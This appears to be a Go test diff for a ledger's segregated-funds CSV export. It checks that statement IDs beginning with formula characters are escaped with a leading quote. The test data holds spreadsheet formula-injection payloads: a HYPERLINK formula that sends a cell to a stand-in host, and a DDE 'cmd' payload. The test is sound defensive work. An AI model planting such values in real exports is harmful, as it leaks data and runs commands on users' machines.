@@ -403,6 +403,56 @@ func TestSegregatedFundsCSV(t *testing.T) {
 	}
 }
 
+// TestSegregatedFundsCSVHasNoFormulas: a statement id comes from finance or
+// a camt.053's Stmt/Id and may start with = + - @; written as is, the
+// auditors' spreadsheet ran =HYPERLINK("https://x.example/?"&G2,…) as a
+// formula, sending a cell of the report to another site on a click. Every
+// text cell starting so is prefixed with ' (the id still reads whole);
+// amounts, negative ones too, stay numbers.
+func TestSegregatedFundsCSVHasNoFormulas(t *testing.T) {
+	t.Parallel()
+	f, _ := reportFixture(t)
+	hostile := []string{`=HYPERLINK("https://x.example/?"&G2,"ICBC-1130")`, "+cmd|'/Ccalc'!A0", "-2+3", "@SUM(1,1)"}
+	for i, id := range hostile {
+		if _, err := f.svc.Statements().Import(f.ctx, app.ImportStatementInput{StatementID: id, Currency: "CNY", Account: fmt.Sprintf("CN-X-%d", i),
+			Content: []byte(fmt.Sprintf("date,reference,amount,balance\n2026-11-29,x%d,0.0%d,0.0%d\n", i, i+1, i+1))}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	b, err := ledger.ExportSegregatedFunds(f.ctx, f.pool, nil, "CNY", "csv", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	const wallet, total = 2, 6 // wallet..total are amounts; total is text in the verdict and journal head rows
+	ids := map[string]bool{}
+	for _, r := range recs[1:] {
+		for col, cell := range r {
+			amount := col >= wallet && col <= total && r[1] != "verdict" && r[0] != "journal_head"
+			if !amount && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %v: cell %d %q starts with a formula character", r, col, cell)
+			}
+		}
+		if r[0] == "bank_statement" {
+			ids[r[1]] = true
+		}
+	}
+	for _, id := range hostile {
+		if !ids["'"+id] {
+			t.Errorf("no bank_statement row for %q as '%s (rows %v)", id, id, ids)
+		}
+	}
+	// Amounts are untouched: the shortfall is still a negative number.
+	for _, r := range recs {
+		if r[0] == "summary" && r[1] == "difference" && r[total] != "-8.65" {
+			t.Errorf("difference %q; want -8.65, a number", r[total])
+		}
+	}
+}
+
 // The PDF, read back with a text extractor (pdftotext), shows the figures,
 // the verdict, the journal head and the client lines.
 func TestSegregatedFundsPDF(t *testing.T) {
